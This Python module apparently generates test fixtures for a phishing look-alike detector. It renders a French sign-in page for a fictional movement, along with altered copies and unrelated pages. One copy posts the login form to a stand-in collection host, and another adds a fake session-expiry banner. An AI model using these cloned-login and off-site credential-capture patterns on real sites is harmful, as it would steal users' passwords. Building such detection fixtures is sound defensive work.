"""Sign-in pages for comparison: one design in many hands."""

from __future__ import annotations

AURORE = {
    "name": "Mouvement Aurore",
    "slogan": "Le jour se lève, commune après commune",
    "lead": "Connectez-vous au portail de l’équipe et des bénévoles.",
    "domain": "portail.mouvement-aurore.test",
    "colour": "#4b3aa8",
    "logo": "<circle cx=28 cy=34 r=16 fill=#d93a4a />"
    "<path d='M4 40h48M28 4v10M8 14l8 8M48 14l-8 8' stroke=#4b3aa8 stroke-width=4 />",
}
STRANGER = {
    "name": "Coopérative du Lac",
    "slogan": "Des paniers frais, chaque semaine près de chez vous",
    "lead": "Connectez-vous à votre espace d’adhérent.",
    "domain": "adherents.coop-du-lac.example",
    "colour": "#1d6b46",
    "logo": "<path d='M6 44q22-40 44 0z' fill=#1d6b46 /><circle cx=40 cy=14 r=8 fill=#e5b22b />",
}
STYLE = """
body{margin:0;font:16px/1.5 'DejaVu Sans',Arial,sans-serif;background:#f4f2f7;color:#1b1f4b}
main{width:420px;margin:70px auto;background:#fff;border-radius:12px;padding:36px}
h1{font-size:26px;margin:18px 0 6px} label{display:block;margin-top:16px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #b8b4c8;border-radius:8px;font-size:16px}
button{margin-top:22px;width:100%;padding:13px;border:0;border-radius:8px;color:#fff;font-size:17px}
.brand{display:flex;gap:14px;align-items:center;font-size:22px;font-weight:bold}
footer{text-align:center;font-size:13px;color:#66648a;margin-top:24px}
"""


def draw_sign_in(
    house: dict[str, str] = AURORE, *, style: str = "", before: str = "", action: str = "/connexion"
) -> str:
    """Return the page of a house; `style` and `before` are what a phisher adds."""
    return f"""<!doctype html><html lang=fr><head><meta charset=utf-8>
<title>Connexion · Portail {house["name"]}</title>
<style>{STYLE}button{{background:{house["colour"]}}}{style}</style></head><body>
{before}<main><div class=brand><svg width=56 height=56>{house["logo"]}</svg><span>{house["name"]}</span></div>
<h1>Heureux de vous revoir</h1><p>{house["lead"]}</p>
<form method=post action="{action}"><label for=e>Adresse électronique</label>
<input id=e name=email type=email placeholder="prenom.nom@{house["domain"].partition(".")[2]}">
<label for=p>Mot de passe</label><input id=p name=password type=password>
<button>Se connecter</button></form><p><small>Mot de passe oublié ?</small></p></main>
<footer>{house["slogan"]} · Avant de saisir votre mot de passe,
lisez l’adresse : elle commence par <b>{house["domain"]}</b></footer>
</body></html>"""


COPIES = {
    "exact": draw_sign_in(),
    "zoomed": draw_sign_in(style="body{zoom:1.3}"),
    "shrunk": draw_sign_in(style="body{zoom:.8}"),
    "banner": draw_sign_in(
        before="<p style='background:#fc0;padding:20px;margin:0'>Votre session expire aujourd’hui !</p>"
    ),
    "moved": draw_sign_in(style="main{margin:20px 0 0 60px}"),
    "other colours": draw_sign_in(
        style="body{background:#dfe8f2}button{background:#0a7}main{border-radius:0}"
    ),
    "no logo": draw_sign_in(style="svg{display:none}"),
    "dark": draw_sign_in(style="body{background:#111;color:#eee}main{background:#222}input{background:#333}"),
    "other font": draw_sign_in(style="body{font-family:'Liberation Serif',serif}h1{font-size:32px}"),
    "elsewhere": draw_sign_in(action="https://collecte.example/p.php"),
}
STRANGERS = {
    "same template": draw_sign_in(STRANGER),
    "same template and colours": draw_sign_in({**STRANGER, "colour": AURORE["colour"]}),
    "other language": draw_sign_in(STRANGER, style="main{width:600px}")
    .replace("Mot de passe", "Password")
    .replace("Heureux de vous revoir", "Welcome back"),
    "news": "<title>Le Petit Journal</title><h1>Le Mouvement Aurore tient son congrès</h1><p>Les bénévoles du Mouvement "
    "Aurore se réunissent samedi. <form><input type=email placeholder='Votre adresse'><button>Recevoir la lettre"
    "</button></form>" + "<p>Un long article sur la vie des communes et de leurs habitants.</p>" * 12,
}
